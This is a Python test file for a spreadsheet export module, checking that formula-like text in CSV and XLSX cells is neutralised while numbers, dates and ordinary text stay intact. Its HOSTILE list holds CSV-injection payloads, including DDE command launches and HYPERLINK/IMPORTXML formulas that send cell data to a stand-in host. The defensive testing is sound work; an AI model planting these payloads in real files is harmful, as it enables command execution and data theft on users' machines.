"""Files that people open in a spreadsheet: no text in them is ever worked out; numbers stay numbers and days stay days."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from include.reports.sheets import CELL_MAX, Sheet, Value, csv_lines, write_xlsx

# As collected by those who test for CSV injection: formulas, links, programs to start, blanks and marks before them.
HOSTILE = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://elsewhere.example?"&A1,"click")',
    '=IMPORTXML(CONCAT("http://elsewhere.example?", CONCATENATE(A2:E2)), "//a")',
    '=DDE("cmd";"/C calc";"x")',
    "+2+5+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\x0b=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "|calc",
    "\t plain after a tab",
    "=\x001",
    "\x00=1",
]
HARMLESS = ["536365", "C536379", "a=b", "x+y", "Größe 5-7", "'quoted", "", "100 %", "n.v.t."]


def in_csv(value: Value) -> str:
    lines = "".join(csv_lines(Sheet("Sheet", ["heading"], [[value]])))
    return list(csv.reader(io.StringIO(lines.removeprefix("\ufeff"), newline="")))[1][0]


def in_xlsx(*values: Value) -> list:
    file = io.BytesIO()
    write_xlsx([Sheet("Sheet", ["heading"], [values], (20,))], file)
    return [*load_workbook(io.BytesIO(file.getvalue()))["Sheet"][2]]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_that_looks_like_a_formula_is_a_text_in_both_files(text: str) -> None:
    (cell,) = in_xlsx(text)

    assert in_csv(text).startswith("'")
    assert (cell.data_type, cell.quotePrefix) == ("s", True)


@pytest.mark.parametrize("text", HARMLESS)
def test_an_ordinary_text_is_left_as_it_is(text: str) -> None:
    (cell,) = in_xlsx(text or "x")

    assert in_csv(text) == text
    assert not cell.quotePrefix


@given(st.text(max_size=60))
def test_no_text_ever_begins_a_formula_in_csv(text: str) -> None:
    assert in_csv(text).lstrip(" \x00")[:1] not in {"=", "+", "-", "@", "\t", "\r"}


@given(st.lists(st.text(max_size=60), min_size=20, max_size=40))
@settings(max_examples=15)
def test_no_text_is_ever_a_formula_in_a_workbook(texts: list[str]) -> None:
    assert not [cell for cell in in_xlsx(*texts) if cell.data_type == "f"]


def test_headings_are_texts_too() -> None:
    assert "".join(csv_lines(Sheet("Sheet", ["=1+1"], []))) == "\ufeff'=1+1\r\n"


def test_a_negative_amount_is_a_number_in_both_files() -> None:
    (cell,) = in_xlsx(Decimal("-1234.50"))

    assert in_csv(Decimal("-1234.50")) == "-1234.50"
    assert (cell.data_type, cell.value, cell.number_format) == ("n", -1234.5, "#,##0.00")


def test_days_and_moments_are_dates_in_both_files() -> None:
    at = datetime(2026, 11, 22, 3, 30, tzinfo=UTC)
    day, moment, nothing, _ = in_xlsx(date(2026, 11, 22), at, None, 1)

    assert (in_csv(date(2026, 11, 22)), in_csv(at), in_csv(None)) == ("2026-11-22", "2026-11-22T03:30:00+00:00", "")
    assert day.is_date
    assert moment.is_date
    assert nothing.value is None


def test_what_xml_cannot_hold_and_what_no_cell_can_is_cut() -> None:
    ill, long = in_xlsx("a\x01b\ufffe", "x" * (CELL_MAX + 10))

    assert ill.value == "a\ufffdb\ufffd"
    assert len(long.value) == CELL_MAX
